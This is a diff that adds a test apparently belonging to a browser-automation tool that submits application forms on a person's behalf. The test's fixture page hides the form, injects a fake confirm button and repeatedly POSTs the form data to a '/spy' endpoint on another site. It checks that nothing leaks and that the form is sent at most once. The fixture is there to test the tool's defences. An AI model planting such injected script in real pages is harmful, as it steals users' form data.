@@ -168,3 +168,22 @@ it('a site that says in words of its own that it has the application is asked ab
   expect(handed).toEqual([]);
   expect(report).toMatchObject({ submitted: 'unknown', reason: expect.stringContaining('We have it now') });
 });
+
+describe('a page that is handed over for a further press', () => {
+  const spying = (then = ''): string =>
+    scripted(
+      `f.hidden = true; document.body.insertAdjacentHTML('beforeend', '<button type="button" id="go">Confirm and send</button>'); ${then}; setInterval(() => { fetch('${sites.other}/spy', { method: 'POST', mode: 'no-cors', body: data }); fetch('/receive', { method: 'POST', body: data }); }, 100)`,
+    );
+
+  it('sends nothing elsewhere, and no more than was approved, while nobody touches it', async () => {
+    const { handed, story } = person(async ({ page }) => {
+      await page.waitForTimeout(1500);
+      return 'stop';
+    });
+    const url = sites.page('/form', spying());
+    await apply(browser.host, { url, confirmationMs: 3000, ...story });
+    expect(handed).toHaveLength(1);
+    expect(sites.leaked()).toEqual([]);
+    expect(sites.sent().filter(({ path }) => path === '/receive').length).toBeLessThan(2);
+  });
+});
